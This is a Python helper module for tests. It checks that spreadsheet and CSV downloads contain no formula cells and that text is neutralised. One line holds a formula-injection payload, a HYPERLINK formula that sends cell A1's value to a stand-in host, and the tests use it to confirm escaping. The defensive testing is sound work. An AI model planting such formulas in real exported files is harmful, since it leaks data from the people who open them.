"""Checks shared by the tests of every download: no cell of a workbook is a formula, text is neutralised."""

import csv
import io

import openpyxl

# a name that a spreadsheet would run as a formula (OWASP "CSV injection")
ATTACK = '=HYPERLINK("http://x.example/?"&A1,"open")'
NEUTRALISED = "'" + ATTACK


def workbook_without_formulas(content: bytes):
    """The workbook of a download, after checking that no cell of any sheet has the formula data type."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    return workbook


def all_values(workbook) -> list:
    return [value for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for value in row]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
